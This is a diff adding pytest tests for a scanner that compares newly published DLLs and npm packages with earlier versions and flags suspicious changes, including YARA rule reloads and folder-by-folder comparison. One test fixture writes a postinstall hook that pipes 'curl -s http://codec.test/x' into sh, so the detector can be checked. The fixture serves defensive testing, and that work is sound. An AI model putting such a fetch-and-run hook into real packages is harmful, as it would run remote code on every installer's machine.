@@ -1,11 +1,13 @@
 # SPDX-License-Identifier: Apache-2.0
-"""Question: is what arrives in a publish place judged against the version before it, with the verdict beside it, once, again
-when rules change, and never through a link? No root needed; all is made here, inert."""
+"""Question: is what arrives in a publish place and its folders judged against the version before it, or the last one seen, with
+the verdict beside it, once, again when rules change, and never through a link? No root needed; all is made here, inert."""
+import io
 import json
 import os
 import shutil
 import subprocess
 import sys
+import tarfile
 import time
 
 import pytest
@@ -113,3 +115,100 @@ def test_watching_judges_what_arrives(programs, place, dll):
     finally:
         watch.terminate()
         watch.wait(timeout=10)
+
+
+def test_rules_that_change_are_asked_while_watching(programs, place, tmp_path):
+    rules = tmp_path / "made.yar"
+    rules.write_text("rule Nothing { condition: false }\n")
+    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
+    argv = ["timeout", "40", os.path.join(programs, "turncoat"), "gate", "watch", str(place), "--json", "--rules", str(rules)]
+    with subprocess.Popen(argv, stdout=subprocess.PIPE, text=True, env=env) as watch:
+        for _ in range(2):
+            watch.stdout.readline()
+        rules.write_text(RULE)
+        again = [json.loads(watch.stdout.readline()) for _ in range(2)]
+        watch.terminate()
+    assert sorted(a["of"]["file"] for a in again) == ["codec-1.10.dll", "codec-1.9.dll"]
+    assert any(r["check"] == "yara.Made_Up" for a in again for r in a["reasons"])
+
+
+def test_folders_are_places_of_their_own(programs, place, dll, tmp_path):
+    """A channel or architecture is compared with itself; where the name says no version, the folders may say it."""
+    (tmp_path / "outside").mkdir()
+    put(tmp_path / "outside", "codec-1.0.dll", dll)
+    turned = stuff_table(dll, random_bytes(60000, seed=8))
+    for folder, name, data in (
+        ("beta/x64", "codec-2.0.dll", dll),
+        ("beta/x86", "codec-2.1.dll", dll),
+        ("releases/3.9", "codec.dll", dll),
+        ("releases/3.10", "codec.dll", turned),
+        ("beta", "codec-win32-5.0.dll", dll),
+        ("beta", "codec-win64-5.1.dll", dll),
+        ("a/b/c/d/e/f/g/h/i", "codec-9.0.dll", dll),
+    ):
+        os.makedirs(place / folder, exist_ok=True)
+        put(place / folder, name, data)
+    (place / "way-out").symlink_to(tmp_path / "outside")
+    time.sleep(2.1)
+    done = sweep(programs, place)
+    assert done.returncode == 1 and "1 folders or names are not looked at: too deep" in done.stderr, done.stderr
+    assert verdict(place / "releases/3.10", "codec.dll")["compared_with"]["file"] == "releases/3.9/codec.dll"
+    assert verdict(place / "releases/3.10", "codec.dll")["verdict"] == "malicious"
+    for folder, name in (("beta/x64", "codec-2.0.dll"), ("beta/x86", "codec-2.1.dll"), ("releases/3.9", "codec.dll"), ("beta", "codec-win64-5.1.dll")):
+        assert verdict(place / folder, name)["compared_with"] is None, name
+    assert verdict(place, "codec-1.10.dll")["compared_with"]["file"] == "codec-1.9.dll"
+    assert sorted(os.listdir(tmp_path / "outside")) == ["codec-1.0.dll"]
+    again = sweep(programs, place)
+    assert (again.stdout, again.returncode) == ("", 1)
+
+
+def package(folder, version, extra=None):
+    """An npm package of that version."""
+    files = {"package.json": json.dumps({"name": "made-up-codec", "version": version, **(extra or {})}), "index.js": "module.exports = 1;\n"}
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w:gz") as tar:
+        for name, text in files.items():
+            info = tarfile.TarInfo("package/" + name)
+            info.size = len(text)
+            tar.addfile(info, io.BytesIO(text.encode()))
+    put(folder, f"made-up-codec-{version}.tgz", out.getvalue())
+
+
+def test_the_first_version_of_a_place_is_compared_with_the_last_one_seen(programs, tmp_path):
+    old, new = tmp_path / "old", tmp_path / "new"
+    old.mkdir()
+    new.mkdir()
+    hook = {"scripts": {"postinstall": "node setup.js && curl -s http://codec.test/x | sh"}}
+    package(old, "1.0")
+    package(old, "3.0")
+    package(new, "1.2", hook)
+    time.sleep(2.1)
+    assert sweep(programs, old).returncode == 0
+    done = sweep(programs, new)
+    told = verdict(new, "made-up-codec-1.2.tgz")
+    assert told["compared_with"] is None and told["seen_before"] == "1.0", "not with a version above it"
+    assert "diff.lifecycle-script" in {r["check"] for r in told["reasons"]} and "1.0, which was seen before" in done.stdout
+    # What is suspicious is not what a later one is compared with.
+    assert told["verdict"] in ("suspicious", "malicious")
+    shutil.rmtree(new)
+    new.mkdir()
+    package(new, "1.3", hook)
+    time.sleep(2.1)
+    sweep(programs, new)
+    assert verdict(new, "made-up-codec-1.3.tgz")["seen_before"] == "1.0"
+    sweep(programs, new, "--no-remember")
+    (new / ("made-up-codec-1.3.tgz" + END)).unlink()
+    sweep(programs, new, "--no-remember")
+    assert verdict(new, "made-up-codec-1.3.tgz")["seen_before"] is None
+
+
+def test_thousands_of_files_are_cheap_once_they_are_judged(programs, tmp_path):
+    place = tmp_path / "many"
+    place.mkdir()
+    for i in range(2000):
+        put(place, f"note{i % 50}x-{i // 50}.txt", b"%d\n" % i)
+    time.sleep(2.1)
+    assert sweep(programs, place, "--no-remember").returncode == 0
+    began = time.monotonic()
+    again = sweep(programs, place, "--no-remember")
+    assert again.stdout == "" and time.monotonic() - began < 10
